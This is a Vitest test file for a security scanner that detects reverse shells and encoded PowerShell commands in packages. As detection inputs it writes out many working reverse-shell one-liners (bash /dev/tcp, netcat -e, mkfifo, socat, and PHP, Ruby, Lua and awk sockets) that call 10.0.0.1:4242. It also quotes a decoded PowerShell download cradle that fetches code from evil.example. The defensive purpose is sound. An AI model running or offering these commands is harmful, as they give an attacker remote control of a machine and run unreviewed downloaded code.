import fs from "node:fs";
import { describe, expect, it } from "vitest";
import { analyzeSource } from "@/scanner/analysis/analyze-source";
import { encodedPowerShellCommands } from "@/scanner/analysis/encoded-powershell";
import { reverseShellIn } from "@/scanner/analysis/reverse-shell-commands";
import { CODE_RULES } from "@/scanner/rules/index";

const exec = CODE_RULES.filter((rule) => rule.id === "exec");

describe("reverseShellIn", () => {
  it("names the technique of the well-known one-liners", () => {
    expect(reverseShellIn("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")).toBe("a shell reading bash's /dev/tcp");
    expect(reverseShellIn("0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196")).toBe("a shell reading bash's /dev/tcp");
    expect(reverseShellIn("sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5")).toBe("a shell reading bash's /dev/tcp");
    expect(reverseShellIn("exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done")).toBe("the lines read from bash's /dev/tcp run as commands");
    expect(reverseShellIn("nc 10.0.0.1 4242 -e sh")).toBe("netcat running a program for the connection");
    expect(reverseShellIn("busybox nc 10.0.0.1 4242 -e /bin/bash")).toBe("netcat running a program for the connection");
    expect(reverseShellIn("nc -c bash 10.0.0.1 4242")).toBe("netcat running a program for the connection");
    expect(reverseShellIn("ncat --lua-exec shell.lua 10.0.0.1 4242")).toBe("netcat running a program for the connection");
    expect(reverseShellIn("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f")).toBe("a shell piped to and from netcat");
    expect(reverseShellIn("cat /tmp/f|/bin/sh 2>&1|nc 10.0.0.1 4242 >/tmp/f")).toBe("a shell piped to and from netcat");
    expect(reverseShellIn("/bin/sh 0</dev/tcp/10.0.0.1/4242 1>&0 2>&0")).toBe("a shell reading bash's /dev/tcp");
    expect(reverseShellIn("openssl s_client -quiet -connect 10.0.0.1:4242 | /bin/bash")).toBe("a shell piped to and from netcat");
    expect(reverseShellIn("socat TCP:10.0.0.1:4242 EXEC:sh")).toBe("socat joining a connection to a program");
    expect(reverseShellIn("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"sh <&3 >&3 2>&3\");'")).toBe("PHP's socket made a shell's input");
    expect(reverseShellIn("ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"10.0.0.1\",4242))'")).toBe("Ruby's socket made a shell's input");
    expect(reverseShellIn("node -e 'sh = require(\"child_process\").spawn(\"sh\"); client = new (require(\"net\").Socket)()'")).toBe("Node's socket piped into a shell");
    expect(reverseShellIn("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { s |& getline c; c |& getline; close(c) }}' /dev/null")).toBe("awk's /inet/tcp running what it reads");
    expect(reverseShellIn("lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('sh -i <&3 >&3 2>&3');\"")).toBe("Lua's socket made a shell's input");
  });

  it("leaves honest use of the same tools alone", () => {
    for (const line of [
      "nc -z -w 2 localhost 5432",
      "nc -l 8080 > received.bin",
      "telnet -e ^] localhost 25",
      "echo ping > /dev/tcp/localhost/5432",
      "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
      "socat TCP-LISTEN:8080,fork TCP:localhost:80",
      "curl -fsSL https://example.com/install.sh | sh",
      "bash -i",
      "python3 -m http.server 8000",
      "python3 -c 'import socket; print(socket.gethostname())'",
      "perl -e 'print 1' | sh",
      "ssh -i ~/.ssh/deploy host 'git pull'",
      "shasum -a 256 file | nc -q 0 localhost 9000",
      "nc -z localhost 5432 || sh ./scripts/start-db.sh",
      "cat build.log | sh ./report.sh | nc localhost 9000",
    ]) {
      expect(reverseShellIn(line), line).toBeUndefined();
    }
  });

  it("searches a line of thousands of shells and netcats in linear time, and not past 64 KB", () => {
    expect(reverseShellIn("sh -i ".repeat(10_000))).toBeUndefined();
    expect(reverseShellIn(`${" ".repeat(70_000)}bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`)).toBeUndefined();
  });
});

describe("reverse shells run by the package", () => {
  const file = "test/fixtures/rules/exec/reverse-shells.js";
  const findings = analyzeSource(file, fs.readFileSync(file, "utf8"), exec).findings;
  const at = (line: number) => findings.filter((finding) => finding.line === line);

  it("are high, naming the technique, whether run by a shell, as a file's script or an interpreter's", () => {
    for (const line of [8, 10, 12, 14, 16, 18, 20, 23, 25, 27]) {
      expect(at(line).map((finding) => finding.severity), `line ${line}`).toContain("high");
    }
    expect(at(8).find((finding) => finding.severity === "high")!.message).toBe(
      "Connects a shell to a network connection (a shell reading bash's /dev/tcp: child_process.exec); whoever is at the other end runs commands on this machine",
    );
    expect(at(20).find((finding) => finding.severity === "high")!.message).toContain("Python's socket made a shell's input");
  });

  it("are not said of a port check, a request over /dev/tcp, a forwarder, telnet or a shell's -c line", () => {
    for (const line of [31, 33, 35, 37, 39]) expect(at(line).map((finding) => finding.severity), `line ${line}`).not.toContain("high");
  });

  it("reads the line a shell is given with -c as exec's own: its programs and /dev/tcp hosts", () => {
    expect(at(39).map((finding) => finding.message)).toEqual(['Runs "sh", "git" and "curl" (child_process.spawn)']);
    expect(at(10).map((finding) => finding.message)).toContain("Opens an outbound connection through the shell's /dev/tcp (child_process.spawn) to 203.0.113.7");
  });
});

describe("PowerShell's encoded commands", () => {
  const encode = (command: string) => Buffer.from(command, "utf16le").toString("base64");

  it("are decoded under -EncodedCommand, its prefixes and -ec, and only for PowerShell", () => {
    expect(encodedPowerShellCommands(`powershell -NoP -enc ${encode("Get-Date")}`)).toEqual(["Get-Date"]);
    expect(encodedPowerShellCommands(`pwsh.exe -EncodedCommand "${encode("whoami")}"`)).toEqual(["whoami"]);
    expect(encodedPowerShellCommands(`powershell -e ${encode("ls")} -ec ${encode("id")}`)).toEqual(["ls", "id"]);
    expect(encodedPowerShellCommands(`powershell -ExecutionPolicy ${encode("Get-Date")}`)).toEqual([]);
    expect(encodedPowerShellCommands(`node -e ${encode("Get-Date")}`)).toEqual([]);
    // Base64 that is no UTF-16 text of a command (an argument that only looks like it).
    expect(encodedPowerShellCommands("powershell -e Bypass")).toEqual([]);
  });

  it("decodes no more than eight commands of a line", () => {
    expect(encodedPowerShellCommands(`powershell ${`-enc ${encode("ls")} `.repeat(20_000)}`)).toEqual(Array(8).fill("ls"));
  });

  const file = "test/fixtures/rules/exec/encoded-powershell.js";
  const encoded = analyzeSource(file, fs.readFileSync(file, "utf8"), exec).findings;
  const on = (line: number, severity: string) => encoded.filter((finding) => finding.line === line && finding.severity === severity).map((finding) => finding.message);

  it("are read as written out: a reverse shell or a download cradle in one is high, naming where it was", () => {
    expect(on(7, "high")).toEqual(["Connects a shell to a network connection (PowerShell running what a TCP client receives, in an encoded command: child_process.spawn); whoever is at the other end runs commands on this machine"]);
    expect(on(10, "high")).toEqual(["Runs what it downloads (PowerShell running a downloaded string, in an encoded command: child_process.exec): code no reviewer has seen, which its server can change at will"]);
    expect(on(13, "high")).toEqual([]);
    expect(on(13, "info")).toEqual(['Runs "pwsh" (child_process.spawn)']);
    expect(on(15, "info")).toEqual(['Runs "powershell" (child_process.spawn)']);
  });

  it("are medium however harmless, quoted decoded for the reviewer, and options that are not one are nothing", () => {
    expect(on(13, "medium")).toEqual(["Hides the command it gives PowerShell in base64 (-EncodedCommand: child_process.spawn); it decodes to: Get-Clipboard"]);
    expect(on(10, "medium")).toEqual(['Hides the command it gives PowerShell in base64 (-EncodedCommand: child_process.exec); it decodes to: IEX (New-Object Net.WebClient).DownloadString("https://evil.example/a.ps1")']);
    // A long one is quoted up to 160 characters.
    expect(on(7, "medium")[0]).toMatch(/it decodes to: \$client = New-Object System\.Net\.Sockets\.TCPClient\("10\.0\.0\.1",4242\);\$stream = .{60,}…$/);
    expect(on(15, "medium")).toEqual([]);
  });
});

describe("network connections that drive a process (remote-shell)", () => {
  const rule = CODE_RULES.filter((each) => each.id === "remote-shell");
  const file = "test/fixtures/rules/remote-shell/reverse-shells.js";
  const findings = analyzeSource(file, fs.readFileSync(file, "utf8"), rule).findings;
  const severityAt = (line: number) => findings.filter((finding) => finding.line === line).map((finding) => finding.severity);

  it("are high when the process is a shell or an interpreter, named with where it was started", () => {
    for (const line of [13, 26, 31, 37, 47, 54, 67, 71, 79, 82, 90, 95, 102, 106, 116, 120, 129, 137, 142, 152]) expect(severityAt(line), `line ${line}`).toEqual(["high"]);
    expect(findings.find((finding) => finding.line === 13)!.message).toBe(
      'Pipes a network connection into the input of "sh" (child_process.spawn, line 9), a shell or interpreter reading its commands from it: a remote shell, whoever is at the other end runs commands on this machine',
    );
    expect(findings.find((finding) => finding.line === 26)!.message).toContain('"cmd.exe" or "bash"');
  });

  it("are medium for another program", () => {
    expect(severityAt(60)).toEqual(["medium"]);
    expect(findings.find((finding) => finding.line === 60)!.message).toBe('Pipes a network connection into the input of "ffmpeg" (child_process.spawn, line 58): whoever is at the other end drives it');
  });
});

describe("network connections that drive a program running code of its own", () => {
  it("are medium: an MCP server bridged over TCP, a shell given its -c line", () => {
    const file = "test/fixtures/rules/remote-shell/honest-streams.js";
    const findings = analyzeSource(file, fs.readFileSync(file, "utf8"), CODE_RULES.filter((each) => each.id === "remote-shell")).findings;
    expect(findings.map((finding) => `${finding.line} ${finding.severity}`).sort()).toEqual(["45 medium", "52 medium"]);
  });
});

describe("reverse shells and download runs in other spawn forms", () => {
  it("are high through zx's tag, Bun's and Deno's spawners, env and sudo, PowerShell's full path, and after a PATH write", () => {
    const file = "test/fixtures/rules/exec/remote-control-forms.js";
    const findings = analyzeSource(file, fs.readFileSync(file, "utf8"), exec).findings;
    for (const line of [9, 11, 13, 15, 17, 19, 21, 23, 25]) expect(findings.filter((finding) => finding.line === line).map((finding) => finding.severity), `line ${line}`).toContain("high");
  });
});

describe("a remote shell whose socket an object's member holds", () => {
  const file = "test/fixtures/rules/remote-shell/member-socket.js";
  const findings = analyzeSource(file, fs.readFileSync(file, "utf8"), CODE_RULES.filter((each) => each.id === "remote-shell")).findings;

  it("is high, with require found through the process and the shell chosen by platform, or both kept in an instance's members", () => {
    expect(findings.map((finding) => `${finding.line} ${finding.severity}`).sort()).toEqual(["12 high", "34 high"]);
    expect(findings.find((finding) => finding.line === 12)!.message).toContain('"cmd" or "sh"');
    expect(findings.find((finding) => finding.line === 34)!.message).toContain('"bash" (child_process.spawn, line 32)');
  });
});
